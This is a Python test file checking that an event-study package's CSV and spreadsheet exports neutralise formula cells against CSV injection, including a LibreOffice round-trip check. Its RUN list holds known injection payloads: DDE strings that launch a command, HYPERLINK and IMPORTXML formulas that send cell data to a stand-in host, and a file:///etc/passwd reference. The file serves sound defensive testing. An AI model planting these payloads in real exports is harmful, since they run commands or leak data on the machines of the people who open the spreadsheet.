"""What a spreadsheet would run: kept apart from what is ours by examples from outside."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from eventstudy.exports.formulas import frame_without_formulas, without_formulas
from eventstudy.exports.frames import writer_of

# From OWASP's page on CSV injection, and from reports of such faults in other programs.
RUN = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://bad.example?x="&A1,"more")',
    "=WEBSERVICE(A1)",
    '@IMPORTXML (CONCAT("http://bad.example?v=",A2:E2),"//a")',
    "\uff1d1+1",
    " =1+1",
    "\t=1+1",
    '"=1+1',
    "+'file:///etc/passwd'#$x.A1!",
)
OURS = (
    "@ASIC", "@ASIC-@GPU", "@ASIC-@GPU:ex", "-1,1", "+24.5% (from +20.3% to +28.7%)", "-", "--",
    "-7.3%", "X1;@GPU", "AVGO+ @GPU-", "a = b", "f(x)=1", "", "\u2212 2 (three)",
)  # fmt: skip


@pytest.mark.parametrize("text", RUN)
def test_what_would_run_is_marked(text: str) -> None:
    assert without_formulas(text).lstrip("\t")[0] == "'"
    assert without_formulas(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", OURS)
def test_what_is_ours_stays(text: str) -> None:
    assert without_formulas(text) == text


@pytest.mark.parametrize("mark", [";", "\n", "\t", "\r\n"])
def test_a_cell_that_another_country_parts(mark: str) -> None:
    assert without_formulas(f"a{mark}=1+1{mark}b") == f"a{mark}'=1+1{mark}b"


def test_figures_and_lists_stay_as_they_are() -> None:
    frame = pd.DataFrame(
        {
            "=x": [-1.5, 2.0],
            "text": ["=1+1", None],
            "list": [["=1"], []],
            "day": pd.to_datetime("2024-01-01"),
        }
    )
    shown = frame_without_formulas(frame)
    assert list(shown.columns) == ["'=x", "text", "list", "day"]
    assert shown["text"].tolist()[0] == "'=1+1"
    assert shown["list"].tolist() == [["=1"], []]
    pd.testing.assert_series_equal(shown["'=x"], frame["=x"], check_names=False)
    assert frame["text"].tolist()[0] == "=1+1"


@pytest.mark.skipif(shutil.which("soffice") is None, reason="there is no LibreOffice here")
def test_libreoffice_runs_nothing(tmp_path: Path) -> None:
    """Parted at semicolons too, as in some countries; formulas allowed, as a user may set it."""
    frame = pd.DataFrame({"event_id": [*RUN, *OURS, "a;=1+1"], "car": 0.5})
    with (tmp_path / "t.csv").open("wb") as file:
        writer_of(frame, "csv")(file)
    subprocess.run(
        ["soffice", "--headless", "--convert-to", "xlsx", "--outdir", str(tmp_path),
         f"-env:UserInstallation=file://{tmp_path}/profile",
         "--infilter=CSV:44/59,34,76,1,,0,false,true,false,false,false,-1,true",
         str(tmp_path / "t.csv")],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    book = openpyxl.load_workbook(tmp_path / "t.xlsx")
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert len(cells) > len(frame)
    assert [cell.value for cell in cells if cell.data_type == "f"] == []


def test_csv_is_read_back_as_it_was_written() -> None:
    buffer = io.BytesIO()
    writer_of(pd.DataFrame({"a": OURS, "b": 1.5}), "csv")(buffer)
    rows = list(csv.DictReader(io.StringIO(buffer.getvalue().decode(), newline="")))
    assert [row["a"] for row in rows] == list(OURS)
